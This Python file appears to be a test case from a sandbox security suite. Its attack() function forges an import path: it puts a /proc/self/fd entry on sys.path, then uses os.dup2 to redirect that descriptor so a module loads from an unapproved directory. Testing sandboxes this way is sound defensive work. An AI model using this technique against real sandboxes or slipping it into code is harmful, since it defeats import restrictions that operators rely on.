"""An entry of sys.path is a descriptor, which is turned afterwards."""
CATEGORY = "forging"
REACH = "net"
POLICIES = "allow"

import os
import sys

def attack():
    import good
    there = os.open(good.__path__[0], os.O_RDONLY)
    here = os.open(os.path.dirname(__file__), os.O_RDONLY)
    sys.path.insert(0, f"/proc/self/fd/{there}")
    sys.path_importer_cache.clear()
    os.dup2(here, there)
    import task
